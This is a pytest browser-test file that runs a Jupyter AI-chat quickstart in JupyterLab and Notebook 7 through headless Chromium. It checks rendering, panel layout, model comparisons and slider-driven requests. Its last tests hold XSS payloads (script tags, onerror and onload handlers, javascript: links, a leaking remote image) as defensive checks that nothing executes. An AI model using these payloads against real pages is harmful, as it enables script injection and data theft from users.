"""The quickstart as a person sees it: JupyterLab and Notebook 7 on 127.0.0.1, headless Chromium.

One Jupyter server (it serves JupyterLab at /lab and Notebook 7 at /notebooks), one browser, one
page per front end, each running all cells of its own copy of the quickstart. The kernels have no
key, so the notebook replays the docs' answer; their base URL is the loopback fake service, which
also answers once the Lab test switches to live mode to check that moving the temperature slider
changes the next request. Every browser request that is not for this server is aborted, so the
pages cannot reach any other address either. Screenshots of the panel at 1200 and 900 px with the
file browser open land in artifacts/screenshots/.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import KEY_VARS, ROOT, TEST_KEY
from tests.fakeapi import FakeAIMLAPI, Reply, ToolModel

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--no-first-run", "--disable-sync", "--disable-quic",
]
TOKEN = "aiml-browser-test-token"
# Screenshots land in artifacts/ (ignored by git); AIML_UPDATE_SCREENSHOTS=1 refreshes the README's.
IMG = ROOT / ("docs/img" if os.environ.get("AIML_UPDATE_SCREENSHOTS") == "1" else "artifacts/screenshots")
SHOTS = ROOT / "artifacts" / "screenshots"  # the layout checks' own screenshots, never in the README
# Quiet, deterministic JupyterLab: no news or update checks, start the notebook's kernel without
# asking, keep every cell in the DOM.
SETTINGS = {
    "@jupyterlab/apputils-extension/notification": {"fetchNews": "false", "checkForUpdates": False},
    "@jupyterlab/notebook-extension/tracker": {"autoStartDefaultKernel": True, "windowingMode": "none"},
}

if not Path(CHROMIUM).exists():
    pytest.skip(f"{CHROMIUM} is not installed (Debian package 'chromium')", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def jupyterlab(base: Path, api: FakeAIMLAPI) -> Iterator[str]:
    """A JupyterLab serving ``base/nb`` on 127.0.0.1 with a token; yields its URL once /api answers."""
    for name, values in SETTINGS.items():
        path = base / "settings" / f"{name}.jupyterlab-settings"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(values), encoding="utf-8")
    (base / "config").mkdir()
    (base / "config" / "jupyter_lab_config.py").write_text(
        "c.LabApp.news_url = None\n"
        'c.LabApp.check_for_updates_class = "jupyterlab.handlers.announcements.NeverCheckForUpdate"\n',
        encoding="utf-8",
    )
    env = {k: v for k, v in os.environ.items() if k not in KEY_VARS}
    # The kernel starts with no key (the notebook picks replay); the test hands it one later.
    env.update(
        AIML_API_BASE=api.base_url,
        AIML_BROWSER_TEST_KEY=TEST_KEY,
        JUPYTER_CONFIG_DIR=str(base / "config"),
        JUPYTER_RUNTIME_DIR=str(base / "runtime"),
    )
    port = _free_port()
    log = open(base / "lab.log", "w", encoding="utf-8")  # noqa: SIM115 (closed below)
    proc = subprocess.Popen(
        [
            sys.executable, "-m", "jupyter", "lab", "--allow-root", "--no-browser",
            "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}", f"--ServerApp.token={TOKEN}",
            "--ServerApp.open_browser=False", f"--ServerApp.root_dir={base / 'nb'}",
            f"--LabApp.user_settings_dir={base / 'settings'}",
            f"--LabApp.workspaces_dir={base / 'workspaces'}",
        ],
        env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"{url}/api", timeout=2) as resp:
                    if resp.status == 200:
                        break
            except OSError:
                pass
            if proc.poll() is not None or time.monotonic() > deadline:
                pytest.fail("JupyterLab did not start:\n" + (base / "lab.log").read_text()[-3000:])
            time.sleep(0.2)
        yield url
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)  # the server and the kernels it started
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=5)
        log.close()


class Session:
    """The page after Run All Cells, plus the fake service behind the kernel."""

    def __init__(self, page: Any, api: FakeAIMLAPI, url: str) -> None:
        self.page, self.api, self.url = page, api, url

    def cell(self, text: str) -> Any:
        """The code cell whose source contains ``text``."""
        return self.page.locator(f'.jp-CodeCell:has(.jp-InputArea:has-text("{text}"))').first


class Server:
    """The Jupyter server, the fake service behind its kernels, and the browser."""

    def __init__(self, base: Path, api: FakeAIMLAPI, url: str, browser: Any) -> None:
        self.base, self.api, self.url, self.browser = base, api, url, browser
        self.outside: list[str] = []

    def page(self, path: str, width: int = 1200) -> Any:
        """A new page on ``path`` that can reach this server only."""
        page = self.browser.new_page(viewport={"width": width, "height": 1000})

        def only_this_server(route: Any) -> None:
            url = route.request.url
            if url.startswith(self.url + "/") or url.startswith("data:"):
                route.continue_()
            else:
                self.outside.append(url)
                route.abort()

        page.route("**/*", only_this_server)
        page.goto(f"{self.url}{path}?token={TOKEN}")
        return page


NOTEBOOKS = ("quickstart.ipynb", "quickstart-notebook7.ipynb")  # one copy (and kernel) per front end


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    base = tmp_path_factory.mktemp("lab")
    (base / "nb").mkdir()
    for name in NOTEBOOKS:
        shutil.copy(ROOT / "notebooks" / "quickstart.ipynb", base / "nb" / name)
    with FakeAIMLAPI(key=TEST_KEY) as api, jupyterlab(base, api) as url:
        with sync_api.sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            running = Server(base, api, url, browser)
            try:
                yield running
            finally:
                browser.close()
            assert running.outside == [], f"a page tried to reach other addresses: {running.outside}"
    # Nothing the kernels did was saved with the key in it.
    for name in NOTEBOOKS:
        assert TEST_KEY not in (base / "nb" / name).read_text(encoding="utf-8")


def _run_all(page: Any) -> None:
    """Run ▸ Run All Cells (the same menu in JupyterLab and Notebook 7), then wait for the end."""
    page.click('.lm-MenuBar-itemLabel:text-is("Run")')
    page.click('.lm-Menu-itemLabel:text-is("Run All Cells")')
    page.locator('.jp-OutputArea-output:has-text("this cell sent nothing")').wait_for(timeout=120_000)


@pytest.fixture(scope="module")
def lab(server: Server) -> Iterator[Session]:
    page = server.page("/lab/tree/quickstart.ipynb")
    status = page.locator('.jp-StatusBar-TextItem:has-text("Python 3 (ipykernel) | Idle")')
    status.wait_for(timeout=60_000)
    _run_all(page)
    yield Session(page, server.api, server.url)
    page.close()


@pytest.fixture(scope="module")
def notebook7(server: Server) -> Iterator[Session]:
    pytest.importorskip("notebook", reason="the notebook package (Notebook 7) is not installed")
    page = server.page("/notebooks/quickstart-notebook7.ipynb")
    page.locator(".jp-NotebookPanel .jp-Cell").first.wait_for(timeout=60_000)
    # The kernel is named first, then connects: Run All is only safe once it is idle.
    page.locator('.jp-Toolbar-kernelName:has-text("Python 3 (ipykernel)")').wait_for(timeout=60_000)
    page.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]').wait_for(timeout=60_000)
    _run_all(page)
    yield Session(page, server.api, server.url)
    page.close()


def test_run_all_shows_no_errors_and_sends_nothing(lab: Session):
    errors = lab.page.locator(
        '.jp-OutputArea-output[data-mime-type="application/vnd.jupyter.stderr"], '
        ".jp-OutputArea-output:has(.ansi-red-fg)"
    )
    assert errors.count() == 0, errors.all_inner_texts()
    assert lab.api.requests == []  # replay mode: the service was never asked, not even GET /models


def test_replayed_answer_as_a_person_sees_it(lab: Session):
    out = lab.cell("What do you think about mankind?").locator(".jp-OutputArea")
    heading = out.locator('h4:has-text("1. The Ultimate Paradox")')
    assert heading.is_visible()
    assert out.locator('li:has-text("Creation vs. Destruction")').is_visible()
    details = out.locator("details")
    assert details.count() == 1 and details.get_attribute("open") is None
    summary = details.locator("summary")
    assert summary.is_visible() and summary.inner_text().strip() == "Reasoning · 1,956 chars"
    thought = details.locator('p:has-text("The user wants my")')
    assert not thought.is_visible()  # folded away until clicked
    footer = out.locator("sub")
    assert footer.is_visible()
    text = footer.inner_text()
    assert "ernie-5.0-thinking-preview" in text and "2,002 credits" in text and text.endswith("replayed")
    # The emptied live blocks take no room: one visible output, then nothing below the footer.
    children = out.locator(".jp-OutputArea-child")
    heights = [children.nth(i).bounding_box()["height"] for i in range(children.count())]
    assert heights[0] > 300 and all(h == 0 for h in heights[1:]), heights
    IMG.mkdir(parents=True, exist_ok=True)
    lab.cell("What do you think about mankind?").evaluate("e => e.scrollIntoView({block: 'start'})")
    main = lab.page.locator(".jp-NotebookPanel-notebook").bounding_box()
    lab.page.screenshot(
        path=str(IMG / "answer.png"),
        clip={"x": main["x"], "y": main["y"], "width": main["width"], "height": 620},
    )
    summary.click()
    assert thought.is_visible()  # a click unfolds the reasoning
    summary.click()

    echo = lab.cell("Sum that up in one sentence.").locator(".jp-OutputArea")
    assert echo.locator('strong:has-text("Offline echo: no language model was asked.")').is_visible()
    assert echo.locator("sub").inner_text().endswith("offline echo")


def test_panel_controls_are_shown(lab: Session):
    panel = lab.cell("%aiml panel").locator(".jp-OutputArea")
    for label in ("model", "max_completion_tokens", "temperature", "top_p", "system prompt"):
        assert panel.locator(f'label.widget-label:text-is("{label}")').is_visible(), label
    for box in ("stream", "memory"):
        assert panel.locator(f'.widget-checkbox:has-text("{box}") input').is_checked()
    assert panel.locator('button:has-text("New conversation")').is_visible()
    model = panel.locator('.widget-text:has(label:text-is("model")) input')
    assert model.input_value() == "baidu/ernie-5.0"
    readout = _slider(panel, "temperature").locator(".widget-readout")
    assert readout.inner_text() == "0.20"  # the %config cell below the panel moved it


def _slider(panel: Any, label: str) -> Any:
    return panel.locator(f'.widget-slider:has(label.widget-label:text-is("{label}"))')


def _drag(page: Any, slider: Any, fraction: float) -> None:
    """Drag the slider's handle to ``fraction`` of its track, as a person does with the mouse."""
    handle, track = slider.locator(".noUi-handle"), slider.locator(".noUi-base")
    box, bar = handle.bounding_box(), track.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.down()
    page.mouse.move(bar["x"] + bar["width"] * fraction, box["y"] + box["height"] / 2, steps=8)
    page.mouse.up()


# Every piece of text or control in the panel that could be cut off, and whether it is.
_CUT_OFF = """(panel) => {
    const area = panel.closest('.jp-OutputArea-output').getBoundingClientRect();
    const out = [];
    for (const e of panel.querySelectorAll(
        '.widget-label, .widget-readout, .widget-checkbox, button, .widget-html-content, input, '
        + 'textarea, .widget-slider .slider-container')) {
        const r = e.getBoundingClientRect();
        if (r.width === 0 && r.height === 0) continue;  // not displayed
        const clipped = e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX !== 'visible';
        if (r.right > area.right + 1 || r.left < area.left - 1 || clipped)
            out.push(`${e.className} "${(e.textContent || e.value || '').trim().slice(0, 30)}" `
                     + `${Math.round(r.left)}-${Math.round(r.right)} in ${Math.round(area.left)}-`
                     + `${Math.round(area.right)} scroll ${e.scrollWidth}/${e.clientWidth}`);
    }
    return out;
}"""


def _panel_layout(lab: Session, width: int, name: str) -> dict[str, Any]:
    """Resize the window, screenshot the panel, and measure what a person would notice."""
    page = lab.page
    page.set_viewport_size({"width": width, "height": 1000})
    page.wait_for_timeout(500)  # the notebook relays out
    panel = lab.cell("%aiml panel").locator(".jp-OutputArea-output").first
    panel.scroll_into_view_if_needed()
    SHOTS.mkdir(parents=True, exist_ok=True)
    panel.screenshot(path=str(SHOTS / name))
    boxes = panel.locator(".widget-checkbox:has-text('model default')")
    lefts = [boxes.nth(i).bounding_box()["x"] for i in range(boxes.count())]
    notes = panel.locator(
        ".widget-html-content:has-text('Replay:'), .widget-html-content:has-text('No key')"
    )
    note_boxes = [notes.nth(i).bounding_box() for i in range(notes.count())]
    colors = [notes.nth(i).locator("span").first.evaluate("e => getComputedStyle(e).color")
              for i in range(notes.count())]
    model = panel.locator('.widget-text:has(label:text-is("model"))').bounding_box()
    first_number = panel.locator('.widget-text:has(label:text-is("max_completion_tokens"))').bounding_box()
    return {
        "cut": panel.element_handle().evaluate(_CUT_OFF),
        "lefts": lefts,
        "note_heights": [b["height"] for b in note_boxes if b and b["height"]],
        "colors": colors,
        "gap": first_number["y"] - (model["y"] + model["height"]),
        "sidebar": page.locator("#jp-left-stack").bounding_box(),
    }


def test_panel_layout_at_two_widths_with_the_file_browser_open(lab: Session):
    """Nothing cut off, "model default" aligned, quiet one-line notes, no gap under the model box."""
    shown = {}
    for width in (1200, 900):
        shown[width] = got = _panel_layout(lab, width, f"panel-{width}.png")
        assert got["sidebar"] and got["sidebar"]["width"] > 150, "the file browser is open"
        assert got["cut"] == [], (width, got["cut"])
        assert len(got["lefts"]) == 3 and max(got["lefts"]) - min(got["lefts"]) < 1, got["lefts"]
        # The replay note and the no-key note: one line each (a widget line is 28 px), grey.
        assert len(got["note_heights"]) == 2 and all(h < 40 for h in got["note_heights"]), got
        assert got["colors"] == ["rgb(107, 114, 128)"] * 2, got["colors"]
        assert got["gap"] <= got["note_heights"][0] + 6, got  # only the one-line note between
    lab.page.set_viewport_size({"width": 1200, "height": 1000})


def _run_new_cell(lab: Session, source: str) -> Any:
    """Add a cell at the end, type ``source`` into it and run it (Shift+Enter); returns the cell."""
    page = lab.page
    cells = page.locator(".jp-Notebook .jp-Cell")
    cells.last.locator(".jp-InputPrompt").click()
    page.keyboard.press("Escape")
    page.keyboard.press("b")
    new = cells.nth(cells.count() - 1)  # fixed now: Shift+Enter adds yet another cell below
    new.locator(".cm-content").fill(source)
    page.keyboard.press("Shift+Enter")
    return new


def test_comparison_shows_three_columns_that_wrap_on_a_narrow_screen(lab: Session):
    """Issue #16: the quickstart's comparison, as a person sees it: three columns side by side,
    each headed by its model and ending with its own footer; under one another when narrow."""
    page = lab.page
    cell = lab.cell("%%aiml --compare")
    columns = cell.locator(".jp-OutputArea .aiml-compare-column")
    assert columns.count() == 3
    models = ["gpt-4o-mini", "anthropic/claude-sonnet-4.5", "deepseek/deepseek-chat"]
    shots = {}
    for width in (1200, 900, 640):
        page.set_viewport_size({"width": width, "height": 1000})
        page.wait_for_timeout(500)  # the notebook relays out
        cell.evaluate("e => e.scrollIntoView({block: 'start'})")
        area = cell.locator(".jp-OutputArea-output").first.bounding_box()
        boxes = [columns.nth(i).bounding_box() for i in range(3)]
        for i, model in enumerate(models):
            column = columns.nth(i)
            assert column.locator(".aiml-compare-model").inner_text().strip() == model
            footer = column.locator("sub")
            assert footer.is_visible() and footer.inner_text().startswith("first token ")
            assert "offline echo" in footer.inner_text()
            assert column.locator('strong:has-text("Offline echo")').is_visible()
        # Nothing sticks out of the output area, whatever the width.
        assert all(b["x"] >= area["x"] - 1 and b["x"] + b["width"] <= area["x"] + area["width"] + 1
                   for b in boxes), (width, boxes, area)
        shots[width] = [round(b["y"]) for b in boxes]
        note = cell.locator('.jp-OutputArea sub:has-text("not added to the conversation")')
        assert note.is_visible()
        main = page.locator(".jp-NotebookPanel-notebook").bounding_box()
        height = min(900, area["height"] + 40)
        path = IMG / "compare.png" if width == 1200 else SHOTS / f"compare-{width}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(path), clip={"x": main["x"], "y": area["y"] - 30,
                                              "width": main["width"], "height": height})
    assert len(set(shots[1200])) == 1, shots  # side by side: one row
    assert len(set(shots[640])) == 3, shots  # narrow: one under another
    page.set_viewport_size({"width": 1200, "height": 1000})

    # Live, against the loopback service: the columns fill while the answers stream.
    setup = _run_new_cell(
        lab,
        'import os\nos.environ.setdefault("AIML_API_KEY", os.environ.get("AIML_BROWSER_TEST_KEY", ""))\n'
        "%aiml live",
    )
    setup.locator('.jp-OutputArea-output:has-text("Live: answers come from")').wait_for()
    lab.api.default = lambda rec: Reply(content=f"{rec.json['model']} says " + "tick " * 200,
                                        chunk_chars=5, delay=0.02)
    live = _run_new_cell(lab, "%%aiml --compare gpt-4o-mini deepseek/deepseek-chat\nCount slowly.")
    columns = live.locator(".jp-OutputArea .aiml-compare-column")
    columns.nth(1).locator(':text("deepseek/deepseek-chat says")').wait_for(timeout=30_000)
    assert live.locator(".jp-OutputArea sub").count() == 0  # streaming: no footer yet
    live.screenshot(path=str(SHOTS / "compare-live.png"))
    live.locator('.jp-OutputArea sub:has-text("not added to the conversation")').wait_for(timeout=30_000)
    assert columns.count() == 2 and live.locator(".jp-OutputArea .aiml-compare").count() == 1
    for i in range(2):
        assert "credits" in columns.nth(i).locator("sub").inner_text()
    lab.api.default = Reply(echo=True)


def test_moving_the_slider_changes_the_next_request(lab: Session):
    # Go live against the loopback service; the key comes from the kernel's environment, so it
    # is never typed into the notebook.
    live = _run_new_cell(
        lab,
        'import os\nos.environ["AIML_API_KEY"] = os.environ.pop("AIML_BROWSER_TEST_KEY")\n%aiml live',
    )
    live.locator(f'.jp-OutputArea-output:has-text("Live: answers come from {lab.api.base_url}")').wait_for()

    panel = lab.cell("%aiml panel").locator(".jp-OutputArea")
    panel.scroll_into_view_if_needed()
    slider = _slider(panel, "temperature")
    page = lab.page
    _drag(page, slider, 0.65)
    readout = slider.locator(".widget-readout")
    page.wait_for_function("e => e.textContent !== '0.20'", arg=readout.element_handle())
    shown = float(readout.inner_text())
    assert 1.0 < shown < 1.6, shown
    panel.screenshot(path=str(IMG / "panel.png"))

    asked = _run_new_cell(lab, "%%aiml\nAnd in one line?")
    footer = asked.locator(".jp-OutputArea sub")
    footer.wait_for(timeout=30_000)
    sent = lab.api.last_json
    assert sent["temperature"] == pytest.approx(shown, abs=0.005)
    assert sent["messages"][-1] == {"role": "user", "content": "And in one line?"}
    # One earlier turn: the replayed answer. The echo is no model's answer, so it is not context.
    assert len(sent["messages"]) == 3
    assert sent["messages"][1]["content"].startswith("As an AI, I don’t have feelings")
    assert "replayed" not in footer.inner_text() and "offline echo" not in footer.inner_text()
    assert asked.locator('.jp-OutputArea:has-text("echo: And in one line?")').is_visible()


# -- Notebook 7 -------------------------------------------------------------------------------


def test_notebook7_shows_the_answer_the_fold_and_a_working_panel(notebook7: Session):
    page = notebook7.page
    errors = page.locator(
        '.jp-OutputArea-output[data-mime-type="application/vnd.jupyter.stderr"], '
        ".jp-OutputArea-output:has(.ansi-red-fg)"
    )
    assert errors.count() == 0, errors.all_inner_texts()
    out = notebook7.cell("What do you think about mankind?").locator(".jp-OutputArea")
    out.locator('h4:has-text("1. The Ultimate Paradox")').scroll_into_view_if_needed()
    assert out.locator('h4:has-text("1. The Ultimate Paradox")').is_visible()
    details = out.locator("details")
    assert details.count() == 1 and details.get_attribute("open") is None
    thought = details.locator('blockquote p:has-text("The user wants my")')
    assert not thought.is_visible()
    details.locator("summary").click()
    assert thought.is_visible()  # opened: the reasoning, quoted apart from the answer
    assert out.locator("sub").inner_text().endswith("replayed")
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / "notebook7-answer.png"))

    panel = notebook7.cell("%aiml panel").locator(".jp-OutputArea")
    panel.scroll_into_view_if_needed()
    for label in ("model", "max_completion_tokens", "temperature", "top_p", "system prompt"):
        assert panel.locator(f'label.widget-label:text-is("{label}")').is_visible(), label
    top_p = _slider(panel, "top_p")
    assert panel.locator('.widget-checkbox:has-text("model default") input').nth(2).is_checked()
    assert top_p.locator(".widget-readout").count() == 0 or not top_p.locator(".widget-readout").is_visible()
    _drag(page, top_p, 0.5)  # moving the slider is enough: "model default" unticks itself
    readout = top_p.locator(".widget-readout")
    readout.wait_for(state="visible", timeout=10_000)
    moved = float(readout.inner_text())
    assert 0.3 < moved < 0.7, moved
    assert not panel.locator('.widget-checkbox:has-text("model default") input').nth(2).is_checked()
    panel.screenshot(path=str(SHOTS / "notebook7-panel.png"))
    before = len(notebook7.api.requests)
    asked = _run_new_cell(notebook7, "%%aiml\nWhich top_p was set?")
    echo = asked.locator(".jp-OutputArea")
    echo.locator("sub").wait_for(timeout=30_000)
    sent = re.search(r"top_p\s*=\s*([0-9.]+)", echo.inner_text())
    assert sent and float(sent.group(1)) == pytest.approx(moved, abs=0.006), echo.inner_text()
    assert len(notebook7.api.requests) == before  # replay: the kernel still sent nothing


HOSTILE_ANSWER = (
    "## Hostile answer\n\n"
    "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">\n"
    "<script>window.__pwned='script'</script>\n"
    "<svg onload=\"window.__pwned='svg'\"></svg><iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">"
    "</iframe>\n\n"
    "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>x</script>)\n\n"
    "![tracker](http://203.0.113.7/leak.png?q=notes) <img src=http://203.0.113.7/html.png>\n\n"
    "Readable code: `<img src=x onerror=alert(1)>`\n\n"
    "Math: $\\href{javascript:window.__pwned='math'}{x}$ and $$\\unicode{x41}\\href{javascript:1}{y}$$\n\n"
    "```html\n<script>window.__pwned='fence'</script>\n```\n"
)


def test_hostile_answer_runs_nothing_and_loads_nothing_in_jupyterlab(lab: Session):
    """The attack of issue #9, in a real JupyterLab: an answer with <img onerror>, <script>, an
    <svg onload>, javascript: and data: links and remote images, streamed and then final."""
    title = lab.page.title()
    setup = _run_new_cell(
        lab,
        'import os\nos.environ.setdefault("AIML_API_KEY", os.environ.get("AIML_BROWSER_TEST_KEY", ""))\n'
        "%aiml live",
    )
    setup.locator('.jp-OutputArea-output:has-text("Live: answers come from")').wait_for()
    lab.api.queue(Reply(content=HOSTILE_ANSWER, chunk_chars=6, delay=0.01))
    cell = _run_new_cell(lab, "%%aiml\nSummarise the page I pasted.")
    out = cell.locator(".jp-OutputArea")
    out.locator("sub").wait_for(timeout=30_000)
    out.locator("mjx-container").nth(1).wait_for(timeout=30_000)  # MathJax has typeset the math too
    assert lab.page.evaluate("() => window.__pwned") is None  # no script ran, live or final
    assert lab.page.title() == title and "pwned" not in lab.page.title()
    for selector in ("script", "iframe", "svg", "object", "embed", "img",
                     '[href^="javascript"]', '[href^="data"]', "[onerror]", "[onload]"):
        assert out.locator(selector).count() == 0, selector
    text = out.inner_text()
    for piece in ("<script>window.__pwned='script'</script>", "[click me](javascript:",
                  "<img src=x onerror=alert(1)>", "<script>window.__pwned='fence'</script>"):
        assert piece in text, (piece, text)
    assert out.locator('h3:has-text("Hostile answer")').is_visible()
    link = out.locator('a[href="http://203.0.113.7/leak.png?q=notes"]')
    assert link.count() == 1 and "203.0.113.7/leak.png" in link.inner_text()  # a link, not loaded
    assert lab.api.chat_requests[-1].json["messages"][-1]["content"] == "Summarise the page I pasted."


DANGEROUS = ("script", "iframe", "svg", "object", "embed", "img", '[href^="javascript"]',
             '[href^="data"]', "[onerror]", "[onload]")


def _runs_nothing(lab: Session, out: Any, title: str) -> str:
    """No script ran and no active element is on the page of this output; its visible text."""
    assert lab.page.evaluate("() => window.__pwned") is None
    assert lab.page.title() == title and "pwned" not in lab.page.title()
    for selector in DANGEROUS:  # in what was rendered (JupyterLab's own icons are SVG)
        found = out.locator(".jp-OutputArea-output").locator(selector)
        assert found.count() == 0, (selector, [found.nth(i).evaluate("e => e.outerHTML")[:300]
                                               for i in range(found.count())])
    return out.inner_text()


def test_hostile_comparison_and_tool_calls_run_nothing_in_jupyterlab(lab: Session):
    """Issue #21: the hostile answer again, in the two other views that show service text: a
    comparison's columns (live, then final) and a tool-call round, where the model's arguments
    and the function's result are attacker-controlled text too."""
    title = lab.page.title()
    setup = _run_new_cell(
        lab,
        'import os\nos.environ.setdefault("AIML_API_KEY", os.environ.get("AIML_BROWSER_TEST_KEY", ""))\n'
        "%aiml live",
    )
    setup.locator('.jp-OutputArea-output:has-text("Live: answers come from")').wait_for()
    lab.api.default = Reply(content=HOSTILE_ANSWER, chunk_chars=8, delay=0.005)
    cmp = _run_new_cell(lab, "%%aiml --compare gpt-4o-mini deepseek/deepseek-chat\nSummarise it.")
    out = cmp.locator(".jp-OutputArea")
    out.locator('sub:has-text("not added to the conversation")').wait_for(timeout=60_000)
    text = _runs_nothing(lab, out, title)
    assert text.count("<script>window.__pwned='script'</script>") == 2, text  # shown, both columns
    assert out.locator('h3:has-text("Hostile answer")').count() == 2
    assert out.locator('a[href="http://203.0.113.7/leak.png?q=notes"]').count() == 2  # links only
    cmp.screenshot(path=str(SHOTS / "hostile-compare.png"))

    _run_new_cell(lab, "def lookup(q: str) -> str: return "
                       "\"<img src=x onerror=\\\"window.__pwned='result'\\\"> <b>bold</b>\"")
    lab.api.default = ToolModel(calls=[("lookup", {
        "q": "<script>window.__pwned='args'</script><img src=x onerror=alert(1)>"})])
    tools = _run_new_cell(lab, "%%aiml --tools lookup\nLook it up.")
    out = tools.locator(".jp-OutputArea")
    out.locator("sub").wait_for(timeout=60_000)
    text = _runs_nothing(lab, out, title)
    assert "lookup" in text and "window.__pwned='args'" in text, text  # the call, as text
    assert "window.__pwned='result'" in text, text  # the result the model quoted, as text
    tools.screenshot(path=str(SHOTS / "hostile-tools.png"))
    lab.api.default = Reply(echo=True)
